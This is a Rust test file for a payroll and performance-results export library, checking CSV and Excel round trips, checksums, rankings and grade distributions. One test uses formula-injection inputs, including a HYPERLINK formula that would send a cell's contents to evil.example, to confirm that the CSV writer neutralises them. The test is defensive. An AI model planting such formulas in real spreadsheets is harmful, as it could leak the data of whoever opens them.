//! Payroll and results workbooks, read back with the crate's own reader: same values, exactly.

use crate::common;
use common::*;
use kaohe_office::payroll::{
    HEADERS, PayrollRow, checksum, payroll_csv, payroll_rows, payroll_xlsx, verify_payroll,
};
use kaohe_office::read::{read_csv, read_xlsx};
use kaohe_office::results::{
    DISTRIBUTION, DeptResults, LEDGER_SHEET, LedgerRow, RANK_HEADERS, ResultRow, ResultsBook,
    distribution, ranked, results_workbook,
};
use rust_decimal::Decimal;
use std::str::FromStr;

fn d(s: &str) -> Decimal {
    Decimal::from_str(s).unwrap()
}

fn payroll() -> Vec<PayrollRow> {
    let row = |e: &str, n: &str, total: &str, g: Option<&str>, b: &str| PayrollRow {
        emp_no: e.into(),
        name: n.into(),
        department: "市场部".into(),
        period: "2026-11".into(),
        total: d(total),
        grade: g.map(String::from),
        bonus: d(b),
    };
    vec![
        row("007", "张伟", "90", Some("优"), "2700.00"),
        row("E002", "李娜, 小", "87.55", Some("良"), "225.23"),
        row("E003", "=王芳", "-3.5", None, "0.10"),
        row("E004", "赵\"六\"", "100.01", Some("优"), "3000.20"),
    ]
}

#[test]
fn payroll_csv_has_a_bom_and_a_checksum_row() {
    let rows = payroll();
    let bytes = payroll_csv(&rows);
    assert!(bytes.starts_with(b"\xEF\xBB\xBF"));
    let text = std::str::from_utf8(&bytes[3..]).unwrap();
    let lines: Vec<&str> = text.split("\r\n").collect();
    assert_eq!(lines[0], "工号,姓名,部门,期间,总分,等级,奖金");
    assert_eq!(lines[1], "007,张伟,市场部,2026-11,90,优,2700.00");
    assert_eq!(lines[2], "E002,\"李娜, 小\",市场部,2026-11,87.55,良,225.23");
    // Would be a formula in Excel: quoted away.
    assert_eq!(lines[3], "E003,'=王芳,市场部,2026-11,-3.5,,0.10");
    assert_eq!(lines[5], "合计,共 4 人,,,,,5925.53");
    assert_eq!(checksum(&rows).bonus_sum, d("5925.53"));
    let (back, sum) = verify_payroll(&read_csv(&bytes, "pay.csv").unwrap()).unwrap();
    assert_eq!(sum.rows, 4);
    assert_eq!(back, rows);
}

#[test]
fn payroll_csv_neutralises_a_hyperlink_name_and_keeps_negative_money_a_number() {
    let evil = r#"=HYPERLINK("http://evil.example/?x="&A1,"李娜")"#;
    let rows = vec![
        PayrollRow {
            emp_no: "@SUM(1+1)".into(),
            name: evil.into(),
            department: "=cmd".into(),
            period: "2026-11".into(),
            total: d("-3"),
            grade: Some("\t-优".into()),
            bonus: d("-12.50"),
        },
        PayrollRow {
            emp_no: "E2".into(),
            name: "+李娜".into(),
            department: "市场部".into(),
            period: "-2026-11".into(),
            total: d("90"),
            grade: None,
            bonus: d("100"),
        },
    ];
    let bytes = payroll_csv(&rows);
    // Read as a spreadsheet reads it: every text cell starts with `'`, the numbers do not.
    let mut rdr = csv::ReaderBuilder::new().from_reader(&bytes[3..]);
    let recs: Vec<csv::StringRecord> = rdr.records().map(|r| r.unwrap()).collect();
    let first: Vec<&str> = recs[0].iter().collect();
    assert_eq!(
        first,
        [
            "'@SUM(1+1)",
            &format!("'{evil}")[..],
            "'=cmd",
            "2026-11",
            "-3",
            "'\t-优",
            "-12.50"
        ]
    );
    let second: Vec<&str> = recs[1].iter().collect();
    assert_eq!(
        second,
        ["E2", "'+李娜", "市场部", "'-2026-11", "90", "", "100.00"]
    );
    assert_eq!(&recs[2][6], "87.50");
    // No cell a spreadsheet would run as a formula, except number cells that are numbers.
    for r in &recs {
        for (i, f) in r.iter().enumerate() {
            if f.starts_with(['=', '+', '-', '@', '\t', '\r']) {
                assert!(
                    (i == 4 || i == 6) && f.parse::<f64>().is_ok(),
                    "column {i}: {f:?}"
                );
            }
        }
    }
    // The payroll still reads back as written.
    let (back, _) = verify_payroll(&read_csv(&bytes, "pay.csv").unwrap()).unwrap();
    assert_eq!(back, rows);
}

#[test]
fn payroll_xlsx_reads_back_exactly_and_a_wrong_footer_is_caught() {
    let rows = payroll();
    let bytes = payroll_xlsx(&rows).unwrap();
    dump("payroll.xlsx", &bytes);
    let t = read_xlsx(&bytes, None).unwrap();
    assert_eq!(t.sheet, "工资表");
    assert_eq!(t.headers, HEADERS);
    // 奖金 is a number cell: 2700.00 reads back as 2700, the same decimal.
    assert_eq!(
        t.rows[0].cells,
        ["007", "张伟", "市场部", "2026-11", "90", "优", "2700"]
    );
    let (back, sum) = verify_payroll(&t).unwrap();
    assert_eq!(sum.bonus_sum, d("5925.53"));
    // The CSV quotes `=王芳`; the workbook holds the text as it is.
    assert_eq!(back, rows);

    let mut bad = t.clone();
    bad.rows[1].cells[6] = "225.24".into();
    let e = verify_payroll(&bad).unwrap_err();
    assert!(e.contains("5925.54") && e.contains("5925.53"), "{e}");
}

#[test]
fn payroll_from_scored_forms() {
    let (t, forms) = forms("F01");
    let rows = payroll_rows(&t, &forms, None);
    assert_eq!(rows[0].emp_no, "E001");
    assert_eq!(rows[0].total, d("90"));
    assert_eq!(rows[0].bonus, d("2700.00"));
    assert_eq!(rows[0].grade, None);
    let bytes = payroll_csv(&rows);
    let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
    assert!(
        text.contains("E001,张伟,销售一部,2026年11月,90,,2700.00\r\n"),
        "{text}"
    );
}

fn results() -> (Vec<DeptResults>, Vec<LedgerRow>) {
    let r = |e: &str, n: &str, total: &str, g: Option<&str>, b: &str| ResultRow {
        emp_no: e.into(),
        name: n.into(),
        total: d(total),
        grade: g.map(String::from),
        bonus: d(b),
    };
    let depts = vec![
        DeptResults {
            department: "销售一部".into(),
            rows: vec![
                r("E003", "王芳", "88.5", Some("良"), "2655.00"),
                r("E001", "张伟", "95.25", Some("优"), "2857.50"),
                r("E002", "李娜", "88.5", Some("良"), "1327.73"),
                r("E004", "赵六", "59.99", None, "0"),
            ],
        },
        DeptResults {
            department: "大客户/直销:部".into(),
            rows: vec![r("K001", "钱七", "100.01", Some("优"), "3000.30")],
        },
    ];
    let mut months: [Option<(Decimal, Decimal)>; 12] = Default::default();
    months[0] = Some((d("90"), d("2700.00")));
    months[1] = Some((d("87.55"), d("225.23")));
    months[10] = Some((d("-3.5"), d("0")));
    let ledger = vec![
        LedgerRow {
            emp_no: "E001".into(),
            name: "张伟".into(),
            months,
        },
        LedgerRow {
            emp_no: "E002".into(),
            name: "李娜".into(),
            months: [Some((d("100"), d("0.01"))); 12],
        },
    ];
    (depts, ledger)
}

#[test]
fn ranking_and_distribution() {
    let (depts, _) = results();
    let r: Vec<(u32, &str)> = ranked(&depts[0].rows)
        .into_iter()
        .map(|(k, r)| (k, r.emp_no.as_str()))
        .collect();
    assert_eq!(r, [(1, "E001"), (2, "E002"), (2, "E003"), (4, "E004")]);
    let order = ["优".to_string(), "良".into(), "中".into()];
    assert_eq!(
        distribution(&depts[0].rows, &order),
        [
            ("优".to_string(), 1),
            ("良".into(), 2),
            ("中".into(), 0),
            ("未评级".into(), 1)
        ]
    );
}

#[test]
fn results_workbook_round_trip() {
    let (depts, ledger) = results();
    let order = ["优".to_string(), "良".into(), "中".into()];
    let bytes = results_workbook(&ResultsBook {
        period: "2026年11月",
        departments: &depts,
        grade_order: &order,
        ledger: &ledger,
    })
    .unwrap();
    dump("results.xlsx", &bytes);

    // Department sheets: the header under the merged title, the ranking, the distribution.
    let t = read_xlsx(&bytes, Some("销售一部")).unwrap();
    assert_eq!(t.header_row, 2);
    assert_eq!(t.headers, RANK_HEADERS);
    let dept = &depts[0];
    let ranking = &t.rows[..dept.rows.len()];
    for ((rank, want), got) in ranked(&dept.rows).into_iter().zip(ranking) {
        let c = &got.cells;
        assert_eq!(c[0], rank.to_string());
        assert_eq!(c[1], want.emp_no);
        assert_eq!(c[2], want.name);
        assert_eq!(d(&c[3]), want.total);
        assert_eq!(c[4], want.grade.clone().unwrap_or_default());
        assert_eq!(d(&c[5]), want.bonus);
    }
    let rest: Vec<Vec<&str>> = t.rows[dept.rows.len()..]
        .iter()
        .map(|r| r.cells.iter().map(String::as_str).take(3).collect())
        .collect();
    assert_eq!(
        rest,
        [
            vec![DISTRIBUTION, "", ""],
            vec!["等级", "人数", "占比"],
            vec!["优", "1", "25%"],
            vec!["良", "2", "50%"],
            vec!["中", "0", "0%"],
            vec!["未评级", "1", "25%"],
            vec!["合计", "4", ""],
        ]
    );
    // A department name Excel refuses as a sheet name is cleaned.
    let t2 = read_xlsx(&bytes, Some("大客户_直销_部")).unwrap();
    assert_eq!(t2.rows[0].cells[..3], ["1", "K001", "钱七"]);
    assert_eq!(d(&t2.rows[0].cells[3]), d("100.01"));
    assert_eq!(d(&t2.rows[0].cells[5]), d("3000.30"));

    // The ledger.
    let l = read_xlsx(&bytes, Some(LEDGER_SHEET)).unwrap();
    assert_eq!(l.headers[..4], ["工号", "姓名", "1月得分", "1月奖金"]);
    assert_eq!(l.headers[26], "全年奖金");
    assert_eq!(l.rows.len(), ledger.len());
    for (want, got) in ledger.iter().zip(&l.rows) {
        assert_eq!(got.cells[0], want.emp_no);
        assert_eq!(got.cells[1], want.name);
        let mut year = Decimal::ZERO;
        for m in 0..12 {
            let (s, b) = (&got.cells[2 + 2 * m], &got.cells[3 + 2 * m]);
            let back = (!s.is_empty()).then(|| (d(s), d(b)));
            assert_eq!(back, want.months[m], "{} month {}", want.emp_no, m + 1);
            year += want.months[m].map_or(Decimal::ZERO, |(_, b)| b);
        }
        assert_eq!(d(&got.cells[26]), year);
    }
}
